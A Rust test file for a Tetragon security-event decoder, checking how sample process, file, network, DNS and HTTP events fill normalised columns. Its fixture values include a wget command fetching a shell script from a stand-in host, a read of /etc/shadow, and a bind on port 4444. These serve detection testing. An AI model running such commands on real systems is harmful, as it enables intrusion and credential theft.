//! Which parts of an event fill which columns, what Tetragon tells of its own losses, and what is no event of its.

use std::sync::Arc;

use palisade_events::clock::Tolerance;
use palisade_events::{Chunk, CoverageKind, EventBatch, FieldValue, Lane, LaneClock};
use serde_json::{Value as Json, json};

use crate::decode::{Decoded, Format, Settings, decoder};
use crate::testing::{self, shared};

const SAMPLES: &str = include_str!("../../samples/tetragon.ndjson");
const BAD: &str = include_str!("../../samples/tetragon.bad.ndjson");

fn decode(payloads: &[&str]) -> (EventBatch, Decoded) {
    testing::decode(&Format::Tetragon, &[], payloads)
}

#[test]
fn samples_fill_their_columns() {
    let lines: Vec<&str> = SAMPLES.lines().collect();
    let (batch, out) = decode(&lines);
    assert_eq!((batch.rows(), out.rejects.len(), out.coverage.len()), (lines.len(), 0, 0), "{:?}", out.rejects);
    let parent = "cGllci0yOjcxMDAwMDAwMDAxOjQxMDA=";
    let expected = [
        json!({"class_uid": 1007, "activity_id": 1, "metadata_product_name": "tetragon", "api_operation": "execve",
            "metadata_log_name": "process_exec", "syscall": "execve", "metadata_labels": ["execve", "clone"],
            "time": "2026-02-03T09:15:01.123456Z", "time_original": "2026-02-03T09:15:01.123456789Z",
            "device_hostname": "pier-2", "cluster_name": "quay-blue", "namespace_name": "market",
            "pod_name": "till-6c9f7d8b54-k2xvq", "container_pod_uuid": "5a0c2f6e-3b1d-4f5e-9a77-0d1e2f3a4b5c",
            "pod_labels": ["app.kubernetes.io/name=till", "tier=front"], "workload_name": "till",
            "workload_kind": "Deployment", "container_name": "till", "process_namespace_pid": 17,
            "container_image_name": "registry.pier.example/market/till", "container_image_tag": "2.4.1",
            "process_uid": "cGllci0yOjcxMDA0MjQyMDAwOjQyNDI=", "process_parent_uid": parent, "process_pid": 4242,
            "process_name": "wget", "process_file_path": "/usr/bin/wget", "process_working_directory": "/srv",
            "process_cmd_line": "/usr/bin/wget -q https://drop.example/a.sh", "process_user_uid": "0",
            "actor_user_uid": "0", "actor_session_uid": null, "process_created_time": "2026-02-03T09:15:00.100200Z",
            "process_parent_pid": 4100, "process_parent_name": "dash", "process_parent_file_path": "/bin/dash",
            "process_parent_cmd_line": "/bin/dash -c \"./serve --port 8080\"", "status_id": null,
            "process_ancestors": ["containerd-shim-runc-v2", "systemd"], "action": null, "truncated": null}),
        json!({"process_parent_name": "<kernel>", "process_parent_pid": 0, "actor_session_uid": "1000",
            "process_user_uid": "1000", "actor_user_name": "kim", "process_user_name": "kim", "pod_name": null,
            "workload_name": null, "truncated": true, "time": "2026-02-03T09:15:02.000000Z"}),
        json!({"activity_id": 99, "api_operation": "procFS", "syscall": null, "time": "2026-02-01T04:05:06.789000Z",
            "time_original": "2026-02-01T04:05:06.789Z"}),
        json!({"class_uid": 1007, "activity_id": 2, "api_operation": "exit", "exit_code": 0, "status_detail": null,
            "time_original": "2026-02-03T09:15:03.0000001Z"}),
        json!({"activity_id": 2, "exit_code": null, "status_detail": "SIGKILL"}),
        json!({"exit_code": 2, "process_cmd_line": "/bin/ls"}),
        json!({"class_uid": 1001, "activity_id": 14, "syscall": "openat", "api_operation": "openat",
            "file_path": "/etc/shadow", "exit_code": -13, "status_id": 2, "action": "observed",
            "policy_names": ["watch-secrets"], "message": "somebody opens the password file",
            "metadata_labels": ["execve", "clone", "files", "T1003"]}),
        json!({"class_uid": 1001, "activity_id": 3, "syscall": "security_file_permission", "action": "denied",
            "file_path": "/etc/cron.d/x", "status_id": 1}),
        json!({"class_uid": 4001, "activity_id": 1, "src_endpoint_ip": "10.2.0.9", "src_endpoint_port": 40112,
            "dst_endpoint_ip": "203.0.113.7", "dst_endpoint_port": 443, "connection_info_protocol_name": "tcp",
            "connection_info_direction": "outbound", "count": null, "event_count": 3}),
        json!({"activity_id": 6, "traffic_bytes_out": 5120, "traffic_bytes_in": null}),
        json!({"activity_id": 7, "syscall": "bind", "src_endpoint_ip": "0.0.0.0", "src_endpoint_port": 4444,
            "dst_endpoint_ip": null, "action": "denied", "status_id": 2}),
        json!({"class_uid": 1002, "activity_id": 1, "resource_name": "tide"}),
        json!({"class_uid": 1007, "activity_id": 99, "resource_name": "CAP_SYSLOG", "exit_code": -1, "status_id": 2}),
        json!({"class_uid": 1001, "activity_id": 4, "syscall": "unlinkat", "file_path": "/var/log"}),
        json!({"class_uid": 1005, "activity_id": 1, "file_path": "/usr/lib/libz.so.1.3", "syscall": null}),
        json!({"class_uid": 1007, "activity_id": 99, "api_operation": "readline", "file_path": null}),
        json!({"api_operation": "query_start", "metadata_log_name": "process_usdt", "file_path": null}),
        json!({"class_uid": 1007, "activity_id": 1, "syscall": "bprm_check_security", "file_path": "/usr/bin/ln"}),
        json!({"class_uid": 4001, "activity_id": 1, "dst_endpoint_ip": "198.51.100.4", "dst_endpoint_port": 22,
            "dst_endpoint_hostname": "bastion.example", "connection_info_direction": "outbound"}),
        json!({"activity_id": 2, "traffic_bytes_out": 9_007_199_254_740_993i64, "traffic_bytes_in": 15221,
            "traffic_packets_in": 14, "traffic_packets_out": 9}),
        json!({"activity_id": 7, "src_endpoint_ip": "0.0.0.0", "src_endpoint_port": 8080, "dst_endpoint_ip": null}),
        json!({"activity_id": 1, "connection_info_direction": "inbound", "src_endpoint_pod_name": "cart-0",
            "src_endpoint_namespace_name": "market", "src_endpoint_workload_name": "cart",
            "src_endpoint_ip": "10.2.0.31", "src_endpoint_port": 51514, "dst_endpoint_ip": "10.2.0.9",
            "dst_endpoint_port": 8080, "dst_endpoint_pod_name": null}),
        json!({"class_uid": 4003, "activity_id": 2, "dns_query_hostname": "till.example", "dns_query_type": "A",
            "dns_rcode": "NOERROR", "dns_answers": ["203.0.113.9", "203.0.113.10"], "dst_endpoint_port": 53,
            "connection_info_protocol_name": "udp"}),
        json!({"class_uid": 4002, "activity_id": 6, "http_request_http_method": "POST", "api_response_code": 503,
            "http_request_url_path": "/collect", "http_request_user_agent": "curl/8.9",
            "dst_endpoint_hostname": "till.example"}),
        json!({"class_uid": 1001, "activity_id": 5, "api_operation": "FILE_RENAME", "file_path": "/srv/a",
            "action": "denied", "status_id": 2}),
    ];
    assert_eq!(expected.len(), lines.len());
    for (row, columns) in expected.iter().enumerate() {
        let found = batch.row_json(row);
        for (column, value) in columns.as_object().unwrap() {
            assert_eq!(&found[column], value, "{column} of sample {}", row + 1);
        }
    }
    // The connection is one, whoever tells of it; so is the container, however far its id is cut.
    let [connect, close] = [18, 19].map(|row| batch.row_json(row)["connection_info_community_uid"].clone());
    assert!(connect.is_string());
    assert_eq!(connect, close);
    let [whole, cut] = [0, 1].map(|row| batch.row_json(row)["container_uid_short"].as_str().unwrap().len());
    assert_eq!((whole, cut), (12, 12));
    assert_eq!(batch.row_json(1)["container_uid"].as_str().unwrap().len(), 24);
    assert!(batch.row_json(0)["container_image_uid"].as_str().unwrap().starts_with("sha256:"));
}

#[test]
fn losses_are_facts_and_other_documents_are_refused() {
    let lines: Vec<&str> = BAD.lines().collect();
    let (batch, out) = decode(&lines);
    assert_eq!((batch.rows(), out.counts.coverage, out.counts.used, out.counts.rejected), (0, 4, 1, 4));
    let time = |seconds: i64| 1_770_110_100_000_000 + seconds * 1_000_000 + 123_456;
    let facts: Vec<_> = out.coverage.iter().map(|c| (c.kind, c.count, c.window_start, c.window_end)).collect();
    let expected = [
        (CoverageKind::Lost, 128, time(-30), time(30)),
        (CoverageKind::Health, 0, time(-29), time(31)),
        (CoverageKind::Lost, -1, time(32), time(32)),
        (CoverageKind::Health, -1, time(33), time(33)),
    ];
    assert_eq!(facts, expected);
    assert!(out.coverage[2].detail.contains("pier-2") && out.coverage[2].detail.contains("kubepods"));
    let reasons: Vec<&str> = out.rejects.iter().map(|reject| reject.reason.as_str()).collect();
    assert_eq!(reasons, ["missing_time", "not_a_tetragon_event", "not_a_tetragon_event", "not_a_tetragon_event"]);
}

#[test]
fn an_event_without_time_has_its_carriers() {
    let payload = r#"{"process_kprobe":{"process":{"start_time":"2020-01-01T00:00:00Z"},"function_name":"f"}}"#;
    let lane = Arc::new(Lane::channel("s", "c"));
    let mut chunk = Chunk::new(Arc::clone(&lane));
    chunk.push(payload.as_bytes(), 0, None, Some(1_770_110_100_000_000));
    let mut out = Decoded::new(Arc::default());
    let mut decoder = decoder(&Format::Tetragon, lane, Arc::new(Settings::default()));
    decoder.decode(&chunk, &mut LaneClock::new(Tolerance::default()), &mut out).unwrap();
    let batch = out.events.finish().unwrap();
    let row = batch.row_json(0);
    // When the process began says nothing of when it called a function.
    assert_eq!((&row["time"], &row["time_original"]), (&json!("2026-02-03T09:15:00.000000Z"), &Json::Null));
    assert_eq!((&row["class_uid"], &row["activity_id"]), (&json!(1007), &json!(99)));
}

#[test]
fn rules_name_fields_by_their_path() {
    let plan = ["process_kprobe.args.sock_arg.cookie", "process_kprobe.args.size_arg", "process_kprobe.process.pid"];
    let lines: Vec<&str> = SAMPLES.lines().skip(8).take(2).collect();
    let (batch, _) = testing::decode(&Format::Tetragon, &plan, &lines);
    let fields = batch.fields();
    let values: Vec<String> = fields.iter().map(|field| format!("{:?}", field.values())).collect();
    let text = |text: &str| format!("{:?}", FieldValue::Str(text.into()));
    assert!(values.iter().any(|all| all.contains(&text("18446639135812345678"))), "{values:?}");
    assert!(values.iter().any(|all| all.contains(&text("5120"))), "{values:?}");
    assert!(values.iter().any(|all| all.contains(&format!("{:?}", FieldValue::Int(4247)))), "{values:?}");
}

#[test]
fn public_recordings_are_read_to_the_last_event() {
    let Some(folder) = shared("tetragon") else { return };
    let text = std::fs::read_to_string(folder.join("cilium_tetragon.ndjson")).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let (batch, out) = decode(&lines);
    assert_eq!((lines.len(), batch.rows()), (66, 66), "{:?}", out.rejects);
    // Years lie between the recordings, which is all that there is to tell of their completeness.
    assert!(out.coverage.iter().all(|fact| fact.kind == CoverageKind::Future), "{:?}", out.coverage);
    let count =
        |column: &str, value: Json| (0..batch.rows()).filter(|&row| batch.row_json(row)[column] == value).count();
    for (kind, events) in [
        ("process_exec", 26),
        ("process_exit", 11),
        ("process_kprobe", 18),
        ("process_connect", 5),
        ("process_close", 4),
        ("process_listen", 2),
    ] {
        assert_eq!(count("metadata_log_name", json!(kind)), events, "{kind}");
    }
    // Each has its process.
    assert_eq!(count("process_uid", Json::Null), 0);
    assert_eq!(count("process_cmd_line", Json::Null), 0);
}
